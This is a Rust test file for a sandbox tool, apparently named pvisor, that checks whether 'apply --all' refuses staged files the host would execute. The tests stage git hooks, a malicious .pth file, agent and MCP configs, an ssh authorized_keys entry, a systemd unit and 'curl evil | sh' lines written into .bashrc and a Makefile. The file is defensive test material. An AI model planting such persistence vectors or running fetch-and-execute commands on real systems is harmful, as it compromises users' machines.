//! `apply --all` installs nothing the host then runs: the sensitive set is
//! derived from what the host will execute (the repository's own
//! `core.hooksPath`, a git directory or virtualenv found by its structure,
//! agent and package-manager config, a home directory's dotfiles), and
//! pvisor's own config and state are never applied at all.
//!
//! Each test stages the payload from inside the sandbox, applies with
//! `--all`, then does what the user would do next on the host (`git
//! commit`, run the virtualenv's python) and asserts the payload did not
//! run; then names the path exactly, which applies it, and shows the same
//! action now runs it (so the probe is proven to work).

use std::fs;
use std::os::unix::fs::symlink;
use std::path::Path;
use std::process::Command;

use crate::support::*;

/// `git commit` on the host, as the user would after applying.
fn host_commit(ws: &Path) {
    let out = Command::new("git")
        .args(["-c", "safe.directory=*", "-c", "user.name=t", "-c", "user.email=t@t"])
        .args(["commit", "-q", "--allow-empty", "-m", "after apply"])
        .current_dir(ws)
        .output()
        .unwrap();
    assert!(out.status.success(), "git commit: {}", text(&out.stderr));
}

fn git(ws: &Path, args: &[&str]) {
    let out =
        Command::new("git").args(["-c", "safe.directory=*"]).args(args).current_dir(ws).output().unwrap();
    assert!(out.status.success(), "git {args:?}: {}", text(&out.stderr));
}

/// The host's Python site-packages directory of a virtualenv, relative to it.
fn site_packages() -> String {
    let out = Command::new("/usr/bin/python3")
        .args([
            "-c",
            "import sys; print(f'lib/python{sys.version_info[0]}.{sys.version_info[1]}/site-packages')",
        ])
        .output()
        .unwrap();
    text(&out.stdout).trim().to_owned()
}

/// Agent and package-manager config the command stages, each of which a
/// later agent run or install on the host obeys.
const AGENT_AND_TOOL_CONFIG: [&str; 11] = [
    ".claude/settings.json",
    ".claude/hooks/stop.sh",
    ".mcp.json",
    ".vscode/mcp.json",
    ".cursor/mcp.json",
    ".gemini/settings.json",
    ".codex/config.toml",
    ".yarnrc.yml",
    ".npmrc",
    "CLAUDE.md",
    ".cargo/config.toml",
];

fn what_the_host_runs_is_not_applied_by_all(who: As) {
    who.require();
    let env = Env::new(who);
    let mark = env.dir.path().join("marks");
    fs::create_dir(&mark).unwrap();
    fs::set_permissions(&mark, std::os::unix::fs::PermissionsExt::from_mode(0o777)).unwrap();
    // The host: a repository whose own config names its hooks directory, a
    // bare repository already in the workspace, and a virtualenv.
    git(&env.ws, &["init", "-q"]);
    git(&env.ws, &["config", "core.hooksPath", "tools/hooks"]);
    git(&env.ws, &["init", "-q", "--bare", "vendor/lib.git"]);
    let site = site_packages();
    fs::create_dir_all(env.ws.join("venv/bin")).unwrap();
    fs::create_dir_all(env.ws.join("venv").join(&site)).unwrap();
    fs::write(env.ws.join("venv/pyvenv.cfg"), "home = /usr/bin\ninclude-system-site-packages = false\n")
        .unwrap();
    symlink("/usr/bin/python3", env.ws.join("venv/bin/python3")).unwrap();
    env.give_away(&env.ws);
    let bare_config = fs::read(env.ws.join("vendor/lib.git/config")).unwrap();
    let m = mark.display();
    let mut script = format!(
        "set -e
        mkdir -p tools/hooks vendor/lib.git/hooks
        printf '#!/bin/sh\\ntouch {m}/hook-ran\\n' > tools/hooks/pre-commit; chmod +x tools/hooks/pre-commit
        printf '[core]\\n\\tpager = touch {m}/pager-ran\\n' >> vendor/lib.git/config
        printf '#!/bin/sh\\ntouch {m}/bare-hook-ran\\n' > vendor/lib.git/hooks/post-update
        echo \"import os; open('{m}/pth-ran', 'w')\" > venv/{site}/evil.pth
        echo fine > notes.txt
        echo probe-ran
        "
    );
    for path in AGENT_AND_TOOL_CONFIG {
        script.push_str(&format!("mkdir -p \"$(dirname {path})\"; echo 'run: touch {m}/agent' > {path}\n"));
    }
    std::thread::sleep(std::time::Duration::from_millis(25));
    let out = env.pvisor(&["run", "--", "sh", "-c", &script]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert!(text(&out.stdout).contains("probe-ran"));
    let pth = format!("venv/{site}/evil.pth");
    let vectors: Vec<&str> =
        ["tools/hooks/pre-commit", "vendor/lib.git/config", "vendor/lib.git/hooks/post-update", &pth]
            .into_iter()
            .chain(AGENT_AND_TOOL_CONFIG)
            .collect();

    // Review marks each, with its reason.
    let review = env.review();
    for path in &vectors {
        let item =
            review.iter().find(|c| c["path"] == *path).unwrap_or_else(|| panic!("{path} staged: {review:?}"));
        assert_eq!(item["sensitive"], true, "{path} not marked: {item}");
        assert!(item["sensitive_reason"].as_str().is_some_and(|r| !r.is_empty()), "{item}");
    }
    let reason = |path: &str| {
        review.iter().find(|c| c["path"] == path).unwrap()["sensitive_reason"].as_str().unwrap().to_owned()
    };
    assert!(
        reason("tools/hooks/pre-commit").contains("core.hooksPath"),
        "{}",
        reason("tools/hooks/pre-commit")
    );
    assert!(reason("vendor/lib.git/config").contains("git directory"), "{}", reason("vendor/lib.git/config"));

    // --all applies the rest and none of them.
    let out = env.pvisor(&["apply", "--all"]);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out.stdout));
    assert_eq!(fs::read_to_string(env.ws.join("notes.txt")).unwrap(), "fine\n");
    for path in &vectors {
        if *path != "vendor/lib.git/config" {
            assert!(!env.ws.join(path).exists(), "{path} was applied by --all");
        }
    }
    assert_eq!(
        fs::read(env.ws.join("vendor/lib.git/config")).unwrap(),
        bare_config,
        "the bare repository's config"
    );

    // What the user does next runs nothing of the command's.
    host_commit(&env.ws);
    let python = Command::new(env.ws.join("venv/bin/python3")).args(["-c", "pass"]).output().unwrap();
    assert!(python.status.success(), "{}", text(&python.stderr));
    let ran: Vec<_> = fs::read_dir(&mark).unwrap().flatten().map(|e| e.file_name()).collect();
    assert!(ran.is_empty(), "the host ran the command's payload: {ran:?}");

    // Named exactly, each is the user's choice, and the probes do run.
    env.expect(&["apply", "tools/hooks/pre-commit"], 0);
    host_commit(&env.ws);
    assert!(mark.join("hook-ran").exists(), "the hook probe works once applied by name");
    env.expect(&["apply", &pth], 0);
    let python = Command::new(env.ws.join("venv/bin/python3")).args(["-c", "pass"]).output().unwrap();
    assert!(python.status.success());
    assert!(mark.join("pth-ran").exists(), "the .pth probe works once applied by name");
}

#[test]
#[ignore = "needs root: scripts/test.sh runs it as root, with --include-ignored"]
fn what_the_host_runs_is_not_applied_by_all_as_root() {
    what_the_host_runs_is_not_applied_by_all(As::Root);
}

#[test]
fn what_the_host_runs_is_not_applied_by_all_rootless() {
    what_the_host_runs_is_not_applied_by_all(As::Rootless);
}

fn a_home_workspace_keeps_dotfiles_and_never_takes_pvisor_config(who: As) {
    who.require();
    let env = Env::new(who);
    let home = env.dir.path().join("home");
    fs::create_dir_all(home.join(".local/state")).unwrap();
    fs::write(home.join(".bashrc"), "# mine\n").unwrap();
    env.give_away(&home);
    let in_home = |args: &[&str]| env.command(args).env("HOME", &home).current_dir(&home).output().unwrap();
    std::thread::sleep(std::time::Duration::from_millis(25));
    let script = "mkdir -p .config/pvisor .config/systemd/user .ssh
        echo 'curl evil | sh' >> .bashrc
        printf '[network]\\nmode = \"host\"\\n' > .config/pvisor/config.toml
        echo '[Service]' > .config/systemd/user/evil.service
        echo 'ssh-ed25519 AAAA evil' > .ssh/authorized_keys
        echo /evil >> .local/state/pvisor-state-dirs
        echo fine > notes.txt; echo probe-ran";
    let out = in_home(&["run", "-w", ".", "--", "sh", "-c", script]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert!(text(&out.stdout).contains("probe-ran"));
    assert!(text(&out.stderr).contains("is your home directory"), "run warns: {}", text(&out.stderr));

    let out = in_home(&["review", "--json"]);
    let review = records_of(&text(&out.stdout), "change");
    assert!(text(&out.stderr).contains("is your home directory"), "review warns: {}", text(&out.stderr));
    for path in
        [".bashrc", ".config/systemd/user/evil.service", ".ssh/authorized_keys", ".config/pvisor/config.toml"]
    {
        let item = review.iter().find(|c| c["path"] == path).unwrap_or_else(|| panic!("{path}: {review:?}"));
        assert_eq!(item["sensitive"], true, "{item}");
    }
    let config = review.iter().find(|c| c["path"] == ".config/pvisor/config.toml").unwrap();
    assert!(config["sensitive_reason"].as_str().unwrap().starts_with("never applied"), "{config}");

    let out = in_home(&["apply", "--all"]);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out.stdout));
    assert!(text(&out.stderr).contains("is your home directory"), "apply warns: {}", text(&out.stderr));
    assert!(text(&out.stdout).contains("REFUSED"), "{}", text(&out.stdout));
    assert_eq!(fs::read_to_string(home.join("notes.txt")).unwrap(), "fine\n");
    assert_eq!(fs::read_to_string(home.join(".bashrc")).unwrap(), "# mine\n");
    assert!(!home.join(".ssh").exists() && !home.join(".config/systemd").exists());

    // pvisor's own config and registry: refused even named, even with --include-sensitive.
    for named in [".config/pvisor/config.toml", ".local/state/pvisor-state-dirs"] {
        let out = in_home(&["apply", named, "--include-sensitive"]);
        assert!(
            review.iter().any(|c| c["path"] == named && c["never_applied"] == true),
            "{named}: {review:?}"
        );
        assert_eq!(out.status.code(), Some(1), "{named}: {}", text(&out.stdout));
        assert!(text(&out.stdout).contains("never applies"), "{}", text(&out.stdout));
    }
    assert!(!home.join(".config/pvisor").exists(), "pvisor's config was applied");
    // Nor hunk by hunk.
    let out = in_home(&["apply", "-p", ".local/state/pvisor-state-dirs"]);
    assert!(text(&out.stdout).contains("never applied"), "{}", text(&out.stdout));
    let registry = fs::read_to_string(home.join(".local/state/pvisor-state-dirs")).unwrap_or_default();
    assert!(!registry.contains("/evil"), "the registry was applied: {registry}");
    let out = in_home(&["apply", "--all", "--include-sensitive"]);
    assert_eq!(out.status.code(), Some(1), "the refusal stays: {}", text(&out.stdout));
    assert!(
        fs::read_to_string(home.join(".bashrc")).unwrap().contains("evil"),
        "a dotfile applies with consent"
    );
    assert!(!home.join(".config/pvisor").exists(), "pvisor's config was applied");
}

#[test]
#[ignore = "needs root: scripts/test.sh runs it as root, with --include-ignored"]
fn a_home_workspace_keeps_dotfiles_and_never_takes_pvisor_config_as_root() {
    a_home_workspace_keeps_dotfiles_and_never_takes_pvisor_config(As::Root);
}

#[test]
fn a_home_workspace_keeps_dotfiles_and_never_takes_pvisor_config_rootless() {
    a_home_workspace_keeps_dotfiles_and_never_takes_pvisor_config(As::Rootless);
}

/// A Job that arrives after the review is not what a plain `apply --all`
/// (or `drop`) acts on: it refuses, names both Jobs, and applies nothing;
/// naming the reviewed Job applies it.
#[test]
fn a_plain_apply_refuses_a_job_newer_than_the_one_reviewed() {
    let env = Env::new(As::Rootless);
    assert_eq!(env.run_sh("echo reviewed > seen.txt").status.code(), Some(0));
    let reviewed = only_job(&env);
    env.expect(&["review"], 0);
    assert_eq!(env.run_sh("echo sneaky > unseen.txt").status.code(), Some(0));
    let newer = env.status_json(None)["job"].as_str().unwrap().to_owned();
    assert_ne!(newer, reviewed);
    for verb in [&["apply", "--all"][..], &["drop"][..]] {
        let out = env.pvisor(verb);
        assert_ne!(out.status.code(), Some(0), "{verb:?}: {}", text(&out.stdout));
        let said = text(&out.stderr);
        assert!(said.contains(&reviewed) && said.contains(&newer) && said.contains("newer"), "{said}");
    }
    assert!(!env.ws.join("unseen.txt").exists() && !env.ws.join("seen.txt").exists());
    env.expect(&["apply", &reviewed, "--all"], 0);
    assert_eq!(fs::read_to_string(env.ws.join("seen.txt")).unwrap(), "reviewed\n");
    assert!(!env.ws.join("unseen.txt").exists(), "the unreviewed Job was not applied");
    // Reviewed in turn, the newer Job is the default again.
    env.expect(&["review", &newer], 0);
    env.expect(&["apply", "--all"], 0);
    assert!(env.ws.join("unseen.txt").exists());
}

/// A staged name that is apply's own temporary for its neighbour (the
/// prefix and the BLAKE3 of `Makefile`), with enough files between the two
/// that they are written on different threads: writing it would let its
/// content be renamed over `Makefile`, or be unlinked as a leftover. Apply
/// refuses the name, says why, and `Makefile` gets exactly what was staged
/// for it.
#[test]
fn a_staged_name_posing_as_applys_temporary_is_refused() {
    let env = Env::new(As::Rootless);
    fs::write(env.ws.join("Makefile"), "all:\n\ttrue\n").unwrap();
    env.give_away(&env.ws);
    let posing = format!(".pvisor-tmp-{}", blake3::hash(b"Makefile").to_hex());
    // The same name in capitals is the same file on a case-insensitive
    // directory: refused too.
    let shouting = posing.to_uppercase();
    let script = format!(
        "printf 'all:\\n\\techo reviewed\\n' > Makefile; printf 'all:\\n\\tcurl evil | sh\\n' > {posing}; \
         cp {posing} {shouting}; for i in $(seq 100 299); do echo $i > A$i; done"
    );
    assert_eq!(env.run_sh(&script).status.code(), Some(0));
    let out = env.pvisor(&["apply", "--all"]);
    // Refused like a device node: a warning that names it, and the rest applied.
    let said = text(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{said}");
    assert!(
        said.contains(&format!("{posing} not applied")) && said.contains("apply's own temporary"),
        "{said}"
    );
    assert_eq!(fs::read_to_string(env.ws.join("Makefile")).unwrap(), "all:\n\techo reviewed\n");
    assert!(!env.ws.join(&posing).exists(), "the posing name was written");
    assert!(said.contains(&format!("{shouting} not applied")), "{said}");
    assert!(!env.ws.join(&shouting).exists(), "the posing name in capitals was written");
    assert_eq!(fs::read_to_string(env.ws.join("A299")).unwrap(), "299\n", "the files between were applied");
}
